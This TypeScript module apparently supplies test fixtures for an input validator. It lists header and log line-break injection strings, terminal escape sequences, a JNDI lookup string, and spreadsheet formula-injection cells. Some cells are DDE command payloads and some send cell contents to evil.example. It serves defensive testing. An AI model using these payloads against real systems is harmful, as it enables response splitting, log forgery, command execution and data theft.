/** What makes a line out of a value: in headers, and in logs. The marker says whether it got through. */
export const MARKER = 'X-Forged';

/** Refused wherever a text is taken: control characters, and what ends a line in some reader. */
export const LINE_BREAKERS: readonly string[] = [
  ...[
    `a\r\n${MARKER}: 1`,
    `a\n${MARKER}: 1`,
    `a\r${MARKER}: 1`,
    `a\r\n\r\n<html>${MARKER}`,
    `\r\n ${MARKER}`,
  ],
  ...[`a\u0000${MARKER}`, `a\u000b${MARKER}`, `a\u000c${MARKER}`, `a\u0085${MARKER}`, `a\u009b31m${MARKER}`],
  ...[`a\u2028${MARKER}: 1`, `a\u2029${MARKER}: 1`, `a\u001b[31m${MARKER}`, `a\u001b]0;${MARKER}\u0007`],
  ...[`a\b\b\b${MARKER}`, `a\u007f${MARKER}`, `a\t${MARKER}`, `{"level":"info"}\n{"msg":"${MARKER}"}`],
];

/** Text like any other here; made into a line break only by whoever decodes it once more. */
export const HARMLESS_AS_THEY_ARE: readonly string[] = [
  ...[`a%0d%0a${MARKER}: 1`, `a%250d%250a${MARKER}: 1`, `a\\r\\n${MARKER}: 1`, `a嘊嘍${MARKER}: 1`],
  ...[`a&#13;&#10;${MARKER}`, `","msg":"${MARKER}`, `\${jndi:ldap://${MARKER}}`, `%s%n%x${MARKER}`],
  ...[`\u202e${MARKER}`, `=?utf-8?q?${MARKER}?=`],
];

/** Cells a spreadsheet would run. */
export const FORMULAS: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...[
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    '-2+3+cmd|x!A0',
  ],
  ...["@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML("https://evil.example/","//a")', '=1+1";=1+1', '="a","b"'],
  ...['=DDE("cmd";"/C calc";"x")', '=1,=2\n=3', '-', '=', '+33600001001', '-1'],
];
